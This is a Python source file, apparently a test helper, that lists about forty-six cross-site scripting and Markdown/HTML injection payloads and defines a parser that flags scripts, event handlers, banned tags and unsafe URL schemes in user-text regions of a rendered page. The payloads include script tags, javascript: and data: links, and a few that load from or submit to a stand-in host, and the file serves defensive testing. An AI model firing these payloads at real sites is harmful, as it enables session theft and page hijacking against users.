"""Texts that try to make a browser act, and the look whether a page with them would make it."""

import html.parser
import re

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//e.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><script>1</script>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD4=>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<form action=//e.example><input name=p></form>",
    "<base href=//e.example>",
    "<meta http-equiv=refresh content=0;url=//e.example>",
    "<link rel=stylesheet href=//e.example/x.css>",
    "<style>*{background:url(//e.example)}</style>",
    "<p style=background:url(//e.example)>x</p>",
    "<object data=//e.example></object>",
    "<embed src=//e.example>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>",
    "[x](javascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](data:text/html,1)",
    "![x](javascript:alert(1))",
    "![x](https://e.example/x.png)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    '[x](vbscript:1 "t" onclick=alert)',
    "x {: onclick=alert(1) }",
    "```html\n<script>alert(1)</script>\n```\n````\n```\n<script>",
    "`<script>alert(1)</script>`",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>1</script></template>",
    '"><script>alert(1)</script>',
    "'-alert(1)-'",
    "{{ 7*7 }}{% include 'x' %}",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '<a href="https://ok.example" target=_blank onclick=alert(1)>fine</a>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]
BANNED = {"script", "style", "iframe", "form", "base", "meta", "object", "embed", "svg", "img", "video", "link", "template", "input"}


class Inspector(html.parser.HTMLParser):
    """Collects what a browser would act on, inside the parts that hold people's text."""

    def __init__(self) -> None:
        super().__init__()
        self.depth, self.found = 0, list[str]()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        names = dict(attrs)
        if self.depth or (names.get("class") or "").split(" ")[0] == "text":
            self.depth += tag not in ("br", "hr", "img", "input", "meta", "base", "link", "embed", "source")
            self.found += [tag] if tag in BANNED else []
            for name, value in attrs:
                bad = name.startswith("on") or name in ("style", "srcdoc", "formaction")
                scheme = name in ("href", "src", "action") and not (value or "").lower().startswith(("http://", "https://", "mailto:"))
                self.found += [f"{tag}.{name}={value}"] if bad or scheme else []

    def handle_endtag(self, tag: str) -> None:
        self.depth = max(0, self.depth - 1) if self.depth else 0


def acted_on(page: str) -> list[str]:
    """What a browser would act on: in the parts that hold people's text, or as a script or handler anywhere."""
    inspector = Inspector()
    inspector.feed(page)
    scripts = ["script"] if page.count("<script") != page.count('<script src="/static/') else []
    return inspector.found + scripts + re.findall(r"<[^>]+\son\w+\s*=", page)
